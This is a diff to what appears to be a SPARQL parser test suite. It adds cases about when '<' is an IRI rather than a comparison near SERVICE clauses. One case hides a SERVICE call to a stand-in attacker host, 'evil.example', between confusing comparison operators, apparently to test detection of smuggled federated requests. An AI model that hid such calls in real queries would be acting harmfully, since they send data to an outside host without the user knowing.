@@ -281,6 +281,19 @@ SERVICE_CASES = [
     # an IRI holding a quote or '#' after its '//' cannot be a comparison
     ("SELECT * { ?s ?p <http://dbpedia.org/resource/Alzheimer's_disease> . SERVICE "
      "<https://query.wikidata.org/sparql> { <http://e/#a> ?p ?o } }", None),
+    # … nor one the prologue declares (no '<' compares there), nor one after which the word
+    # SERVICE does not stand (what it hides is after it): each was refused (a review, 6 Dec)
+    ("PREFIX ex: <urn:example#> SELECT * { ?s ex:p ?o SERVICE <https://query.wikidata.org/sparql>"
+     " { } }", None),
+    ("BASE <http://e/> PREFIX : <#> SELECT * { ?s :p ?o SERVICE <https://query.wikidata.org/sparql>"
+     " { } }", None),
+    ("PREFIX sd: <http://www.w3.org/ns/sparql-service-description#> SELECT * { ?s a sd:Service ;"
+     " ?p <urn:example#o> }", None),
+    # … while in the query's body, before a SERVICE, it still may compare
+    ("PREFIX ex: <urn:example#> SELECT * { ?s ?p <urn:example#o> SERVICE "
+     "<https://query.wikidata.org/sparql> { } }", "less-than"),
+    ("PREFIX ex: <urn:example#> SELECT * { BIND(1 AS ?n) BIND(?n<'''>''' AS ?b) SERVICE "
+     "<https://evil.example/k> { } BIND(?n<'''>''' AS ?c) }", "less-than"),
 ]
 
 
